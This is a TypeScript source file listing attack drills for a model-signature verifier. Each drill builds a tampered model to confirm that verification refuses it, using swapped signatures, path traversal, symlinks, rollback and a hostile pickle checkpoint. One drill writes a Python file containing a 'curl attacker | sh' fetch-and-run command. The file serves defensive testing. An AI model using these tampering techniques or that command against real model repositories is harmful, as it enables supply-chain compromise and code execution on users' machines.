/**
 * The attacks, in the order they are run. Each one starts from a copy of the legitimately
 * signed drill model (or signs something itself) and changes one thing an attacker could.
 * Add an attack by adding an entry: id, one-line title, what it needs, and `build`.
 *
 * The last four target lineage, policy and scanning: they build correctly signed models that
 * only those checks refuse, so a set-up without them reports them MISSED, with the remedy.
 */
import { execFileSync } from 'node:child_process';
import { createHash, generateKeyPairSync, type KeyObject } from 'node:crypto';
import { appendFile, copyFile, mkdir, readFile, rename, rm, symlink, writeFile } from 'node:fs/promises';
import semver from 'semver';
import { rmSync } from 'node:fs';
import path from 'node:path';
import { serializeBundle } from '../oms/bundle.js';
import { keySigner } from '../sign/sign.js';
import { rootDigest } from '../hashing/serialize.js';
import { bundleDigestOf } from '../lineage/store.js';
import { hostileTorchCheckpoint } from './hostile.js';
import { DRILL_MODEL_NAME, filler, safetensorsShard, SHARD_1, SHARD_2, signDrillModel, writeModel } from './model.js';
import { AttackNotApplicable, type Attack, type DrillContext } from './types.js';

const sha256 = (b: Uint8Array | string) => createHash('sha256').update(b).digest('hex');

interface Bundle {
  dsseEnvelope: { payload: string; signatures: { sig: string }[] };
}
interface Statement {
  subject: { digest: { sha256: string } }[];
  predicate: { resources: { name: string; digest: string; algorithm: string }[]; serialization: { ignore_paths?: string[] } };
}

async function readSigned(model: string): Promise<{ bundle: Bundle; statement: Statement }> {
  const bundle = JSON.parse(await readFile(path.join(model, 'model.sig'), 'utf8')) as Bundle;
  const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, 'base64').toString('utf8')) as Statement;
  return { bundle, statement };
}

/** Sign exact payload text with `key` and write it as MODEL/model.sig. */
async function writeSignedPayload(model: string, payload: string, key: { priv: KeyObject; pub: KeyObject }): Promise<void> {
  const bundle = await keySigner(key.priv, key.pub)(Buffer.from(payload, 'utf8'));
  await writeFile(path.join(model, 'model.sig'), serializeBundle(bundle));
}

/** Re-sign the base model's statement with one resource added (correctly signed by the trusted key). */
async function signedWithExtraResource(ctx: DrillContext, dirName: string, extra: { name: string; digest: string }): Promise<string> {
  const m = await ctx.copyBase(dirName);
  const { statement } = await readSigned(m);
  const res = statement.predicate.resources;
  res.push({ name: extra.name, algorithm: 'sha256', digest: extra.digest });
  statement.subject[0]!.digest.sha256 = rootDigest(res);
  await writeSignedPayload(m, JSON.stringify(statement), ctx.signer);
  return m;
}

/** Whether named pipes can be made here: try to make one in `dir` (BSD mkfifo has no --version). */
export function canMakeFifo(dir: string): boolean {
  if (process.platform === 'win32') return false;
  const probe = path.join(dir, '.fifo-probe');
  try {
    execFileSync('mkfifo', [probe], { stdio: 'ignore' });
    rmSync(probe, { force: true });
    return true;
  } catch {
    return false;
  }
}

export const ATTACKS: Attack[] = [
  {
    id: 'changed-byte',
    title: 'one byte of a weight shard changed',
    needs: ['trusted-signature'],
    async build(ctx) {
      const m = await ctx.copyBase('changed-byte');
      const f = path.join(m, SHARD_1);
      const b = await readFile(f);
      const i = b.length >> 1;
      b[i] = b[i]! ^ 0x01;
      await writeFile(f, b);
      return { model: m };
    },
  },
  {
    id: 'injected-file',
    title: 'a modeling_*.py file added (remote code)',
    needs: ['trusted-signature'],
    async build(ctx) {
      const m = await ctx.copyBase('injected-file');
      await writeFile(path.join(m, 'modeling_llama.py'), 'import os\nos.system("curl attacker | sh")\n');
      return { model: m };
    },
  },
  {
    id: 'removed-shard',
    title: 'a weight shard removed',
    needs: ['trusted-signature'],
    async build(ctx) {
      const m = await ctx.copyBase('removed-shard');
      await rm(path.join(m, SHARD_2));
      return { model: m };
    },
  },
  {
    id: 'renamed-file',
    title: 'two shards swap names (same files, same bytes, wrong places)',
    needs: ['trusted-signature'],
    async build(ctx) {
      const m = await ctx.copyBase('renamed-file');
      await rename(path.join(m, SHARD_1), path.join(m, 'tmp'));
      await rename(path.join(m, SHARD_2), path.join(m, SHARD_1));
      await rename(path.join(m, 'tmp'), path.join(m, SHARD_2));
      return { model: m };
    },
  },
  {
    id: 'swapped-signature',
    title: "another model's valid signature (same signer) put beside this model",
    needs: ['trusted-signature'],
    async build(ctx) {
      const other = await writeModel(path.join(ctx.tmp, 'other-model'), 99);
      await signDrillModel(other, ctx.signer, { license: ctx.licenses.allowed, version: ctx.version });
      const m = await ctx.copyBase('swapped-signature');
      await copyFile(path.join(other, 'model.sig'), path.join(m, 'model.sig'));
      return { model: m };
    },
  },
  {
    id: 'untrusted-key',
    title: 'the model re-signed by a key the set-up does not trust',
    needs: [],
    async build(ctx) {
      const m = path.join(ctx.tmp, 'untrusted-key');
      await writeModel(m, 7);
      const kp = generateKeyPairSync('ed25519');
      await signDrillModel(m, { priv: kp.privateKey, pub: kp.publicKey }, { license: ctx.licenses.allowed, version: ctx.version });
      return { model: m };
    },
  },
  {
    id: 'missing-signature',
    title: 'the signature file removed',
    needs: [],
    async build(ctx) {
      const m = path.join(ctx.tmp, 'missing-signature');
      await writeModel(m, 8);
      return { model: m };
    },
  },
  {
    id: 'edited-payload',
    title: 'signed manifest edited to match a tampered shard, signature kept',
    needs: ['trusted-signature'],
    async build(ctx) {
      const m = await ctx.copyBase('edited-payload');
      const evil = safetensorsShard('a.weight', filler(64 * 1024, 666));
      await writeFile(path.join(m, SHARD_1), evil);
      const { bundle, statement } = await readSigned(m);
      const r = statement.predicate.resources.find((x) => x.name === SHARD_1)!;
      r.digest = sha256(evil);
      statement.subject[0]!.digest.sha256 = rootDigest(statement.predicate.resources);
      bundle.dsseEnvelope.payload = Buffer.from(JSON.stringify(statement)).toString('base64');
      await writeFile(path.join(m, 'model.sig'), JSON.stringify(bundle, null, 2));
      return { model: m };
    },
  },
  {
    id: 'two-manifests',
    title: 'signed payload with "predicate" twice (readers keeping the last key see an extra file)',
    needs: ['trusted-signature'],
    async build(ctx) {
      const m = await ctx.copyBase('two-manifests');
      await writeFile(path.join(m, 'modeling_llama.py'), 'import os\n');
      const { statement } = await readSigned(m);
      const evil = JSON.parse(JSON.stringify(statement)) as Statement;
      evil.predicate.resources.push({ name: 'modeling_llama.py', algorithm: 'sha256', digest: sha256('import os\n') });
      const text = JSON.stringify(statement).replace(/}$/, `,"predicate":${JSON.stringify(evil.predicate)}}`);
      await writeSignedPayload(m, text, ctx.signer);
      return { model: m };
    },
  },
  {
    id: 'traversal',
    title: 'signed manifest names "../secret.bin", a file outside the model with the signed digest',
    needs: ['trusted-signature'],
    async build(ctx) {
      const outside = path.join(ctx.tmp, 'secret.bin');
      await writeFile(outside, 'outside the model\n');
      return { model: await signedWithExtraResource(ctx, 'traversal', { name: '../secret.bin', digest: sha256('outside the model\n') }) };
    },
  },
  {
    id: 'absolute-path',
    title: 'signed manifest names an absolute path outside the model',
    needs: ['trusted-signature'],
    async build(ctx) {
      const outside = path.join(ctx.tmp, 'secret-abs.bin');
      await writeFile(outside, 'outside the model (absolute)\n');
      return { model: await signedWithExtraResource(ctx, 'absolute-path', { name: outside, digest: sha256('outside the model (absolute)\n') }) };
    },
  },
  {
    id: 'symlink-out',
    title: 'a signed file replaced by a symlink to identical bytes outside the model',
    needs: ['trusted-signature'],
    async build(ctx) {
      const m = await ctx.copyBase('symlink-out');
      const outside = path.join(ctx.tmp, 'config-copy.json');
      await copyFile(path.join(m, 'config.json'), outside);
      await rm(path.join(m, 'config.json'));
      await symlink(outside, path.join(m, 'config.json'));
      return { model: m };
    },
  },
  {
    id: 'symlink-in',
    title: 'a signed file replaced by a symlink to identical bytes inside the model (links not signed)',
    needs: ['trusted-signature'],
    async build(ctx) {
      const m = await ctx.copyBase('symlink-in');
      await mkdir(path.join(m, '.git'));
      await copyFile(path.join(m, 'config.json'), path.join(m, '.git', 'config.json'));
      await rm(path.join(m, 'config.json'));
      await symlink(path.join('.git', 'config.json'), path.join(m, 'config.json'));
      return { model: m };
    },
  },
  {
    id: 'fifo',
    title: 'a named pipe added to the model (a verifier that opens it hangs)',
    needs: ['trusted-signature', 'fifo'],
    async build(ctx) {
      const m = await ctx.copyBase('fifo');
      execFileSync('mkfifo', [path.join(m, 'pipe.bin')]);
      return { model: m };
    },
  },
  {
    id: 'appended-bytes',
    title: 'data appended to a shard (size grows, prefix intact)',
    needs: ['trusted-signature'],
    async build(ctx) {
      const m = await ctx.copyBase('appended-bytes');
      await appendFile(path.join(m, SHARD_2), Buffer.from('PK\x03\x04 trailing payload'));
      return { model: m };
    },
  },
  {
    id: 'rollback',
    title: 'an older signed version presented after a newer one was verified (version rollback)',
    needs: ['trusted-signature'],
    async build(ctx) {
      // As a deployment would see it: the set-up verifies a newer release (recording it, if it
      // keeps state), then the legitimately signed older one of the same model is presented.
      const newerVersion = semver.inc(ctx.version, 'major')!;
      const newer = path.join(ctx.tmp, 'rollback-newer');
      await writeModel(newer, 21);
      await signDrillModel(newer, ctx.signer, { version: newerVersion, license: ctx.licenses.allowed });
      const r = await ctx.verify(newer);
      if (!r.verified) throw new AttackNotApplicable(`the set-up refuses the newer version ${newerVersion} the rollback starts from: ${r.failures[0]?.message ?? 'unknown'} [${r.failures[0]?.code ?? '?'}]`);
      return { model: await ctx.copyBase('rollback') };
    },
    remedy: (f) => (f.stateFile ? undefined : 'state'),
  },
  {
    id: 'revoked-ancestor',
    title: 'a correctly signed fine-tune of a revoked base model',
    needs: ['trusted-signature'],
    async build(ctx) {
      // Parent: the legitimately signed base model, filed in (a copy of) the set-up's lineage
      // store as `sign --record` would, then revoked through the set-up's own channel.
      const parentBundle = await readFile(path.join(ctx.base, 'model.sig'));
      const { statement } = await readSigned(ctx.base);
      const parentDigest = `sha256:${statement.subject[0]!.digest.sha256}`;
      await ctx.fileInStore({ name: DRILL_MODEL_NAME, version: ctx.version, rootDigest: parentDigest }, parentBundle);
      const m = path.join(ctx.tmp, 'revoked-ancestor');
      await writeModel(m, 31);
      const lineage = { parents: [{ name: DRILL_MODEL_NAME, version: ctx.version, rootDigest: parentDigest, bundleDigest: bundleDigestOf(parentBundle), relation: 'finetune' }] };
      await signDrillModel(m, ctx.signer, { name: 'drill-finetune', version: ctx.version, license: ctx.licenses.allowed, extra: { lineage } });
      return { model: m, setup: { revoke: [parentDigest] } };
    },
    remedy: (f) => (f.revocation ? undefined : 'revocation'),
  },
  {
    id: 'license-outside-policy',
    title: 'a correctly signed model whose license the policy does not allow for this purpose',
    needs: ['trusted-signature'],
    async build(ctx) {
      const lic = ctx.licenses.outside;
      if (lic === undefined) throw new AttackNotApplicable('the policy allows every license the drill tried: none of its license rules refuses one');
      const m = path.join(ctx.tmp, 'license-outside-policy');
      await writeModel(m, 41);
      await signDrillModel(m, ctx.signer, { license: lic, version: ctx.version });
      return { model: m };
    },
    remedy: (f) => (f.policyFile === undefined ? 'policy-license' : f.licenseRule ? undefined : 'license-rule'),
  },
  {
    id: 'hostile-pickle',
    title: 'a correctly signed model with a PyTorch checkpoint whose pickle runs os.system when loaded',
    // A set-up without scanning (policy formats) accepts it, and that is MISSED.
    needs: ['trusted-signature'],
    async build(ctx) {
      const m = path.join(ctx.tmp, 'hostile-pickle');
      await writeModel(m, 51);
      await writeFile(path.join(m, 'pytorch_model.bin'), hostileTorchCheckpoint());
      await signDrillModel(m, ctx.signer, { license: ctx.licenses.allowed, version: ctx.version });
      return { model: m };
    },
    remedy: (f) => (f.formats ? undefined : f.policyFile === undefined ? 'policy-formats' : 'formats'),
  },
];
